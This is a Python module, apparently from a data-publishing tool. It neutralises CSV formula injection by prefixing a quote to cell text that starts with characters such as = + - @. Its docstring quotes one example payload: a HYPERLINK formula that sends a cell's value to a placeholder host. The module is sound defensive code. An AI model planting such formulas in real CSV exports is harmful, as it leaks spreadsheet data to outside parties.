"""Text a spreadsheet would run as a formula, and how a CSV file written for people defuses it.

Open-data CSV files (:mod:`helpers.publish.opendata`) and ``plan-report validate --format csv``
are opened in Excel; a cell such as ``=HYPERLINK("http://example.invalid/?"&A1,"x")`` would run
there (OWASP "CSV injection"). :func:`neutralise_formula` gives such text a leading ``'``.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS: frozenset[str] = frozenset("=+-@\t\r\n\0＝＋－＠")
"""First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection)."""

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_formula(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would run it as a formula.

    Only text is changed: a string whose first character, or first character after leading
    spaces, is one of :data:`FORMULA_TRIGGERS`, unless the whole string is a plain number
    (``-1``, ``+0.5``). Anything else is returned unchanged.
    """
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    stripped = value.lstrip()
    if (first in FORMULA_TRIGGERS or stripped[:1] in FORMULA_TRIGGERS) and not (
        _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value
